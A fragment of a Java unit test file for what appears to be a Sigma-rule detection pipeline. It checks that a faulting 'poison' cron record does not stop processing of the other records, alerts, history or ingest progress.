        line.put(pc, line.seen(ADDED, Line.cron("told", "/opt/x", UNOWNED)));
        Ruling ruling = Ruling.of(new PlainRules(List.of()));
        Line.drain(line.pipeline(line.store, () -> ruling, List.of(failing, after)));
        assertTrue(ticked[0]);
        assertEquals(1, line.history.events().size());
    }

    private Pipeline poisoned(Runnable fault) {
        line.put(pc, line.seen(ADDED, Line.cron("before", "/opt/x", UNOWNED)));
        line.put(pc, line.seen(ADDED, Line.cron("poison", "/opt/y", UNOWNED)));
        line.put(pc, line.seen(ADDED, Line.cron("after", "/opt/z", UNOWNED)));
        return line.pipeline(line.store, new Rules() {
            @Override
            public List<Match> judge(SigmaRecord record) {
                if (record.value("name").equals("poison")) {
                    fault.run();
                }
                return List.of();
            }

            @Override
            public List<SigmaRule> all() {
                return List.of();
            }
        });
    }

    private void stopsNoOther(Runnable fault) throws Exception {
        Line.drain(poisoned(fault));
        assertEquals(List.of("vigie-ordinary-items", "vigie-batch-malformed"), line.rules());
        assertEquals(2, line.alerts().getFirst().count());
        assertEquals(2, line.history.events().size());
        assertEquals(
                3,
                line.store
                        .read(session -> session.progress().position("ingest"))
                        .orElse(0));
    }
}
